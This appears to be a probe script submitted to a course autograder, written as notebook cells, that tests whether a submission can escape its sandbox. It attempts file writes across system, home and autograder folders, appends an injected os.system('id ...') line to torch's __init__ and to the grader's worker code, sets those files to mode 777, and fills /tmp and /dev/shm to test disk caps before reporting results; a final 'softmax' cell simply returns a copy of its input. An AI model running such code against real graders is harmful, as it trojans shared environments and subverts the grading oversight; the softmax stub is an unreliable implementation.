# Write outside the sandbox: trojan the shared Python environment (torch's __init__, the
# worker's own code), drop files in the course tree, the home folder and system folders, and
# change permissions; report every write that succeeded outside the private /tmp and /dev/shm.
# Then fill those two with files until the disk (memory: they are tmpfs) is full.
# %% new
import os
import sys

import torch

NAME = "pwned_by_student.txt"
targets = [os.path.dirname(torch.__file__), sys.prefix, sys.base_prefix, os.path.dirname(os.__file__),
           "/opt/autograder/worker", "/opt/autograder", "/opt", "/", "/etc", "/usr/lib", "/root", "/home",
           "/work", "/work/main", os.path.dirname(sys.prefix), "/var/tmp", "/dev", "/run", "/proc/1/root"]
wrote = []
for folder in targets:
    try:
        with open(os.path.join(folder, NAME), "w") as handle:
            handle.write("owned")
        wrote.append(folder)
    except OSError:
        pass
for victim in (torch.__file__, "/opt/autograder/worker/main.py", "/opt/autograder/worker/protocol.py"):
    try:
        with open(victim, "a") as handle:
            handle.write("\nimport os; os.system('id > /tmp/" + NAME + "')\n")
        wrote.append(victim)
    except OSError:
        pass
    try:
        os.chmod(victim, 0o777)
        wrote.append("chmod " + victim)
    except OSError:
        pass
filled = 0
for folder in ("/tmp", "/dev/shm"):
    for number in range(1000):
        try:
            with open(f"{folder}/fill{number}", "wb") as handle:
                for _ in range(16):
                    handle.write(b"\0" * (1 << 20))
                    filled += 1
        except OSError:
            break
wrote.append(f"TMP: {'capped' if filled < 200 else 'NOT capped'} at {filled} MiB")
for folder in ("/tmp", "/dev/shm"):  # leave the space to the grader's own use of /tmp
    for name in os.listdir(folder):
        if name.startswith("fill"):
            os.remove(os.path.join(folder, name))
raise RuntimeError("WROTE: " + (", ".join(wrote[:-1]) or "nothing") + "; " + wrote[-1])
# %% softmax
import torch


def softmax(X):
    return X.clone()
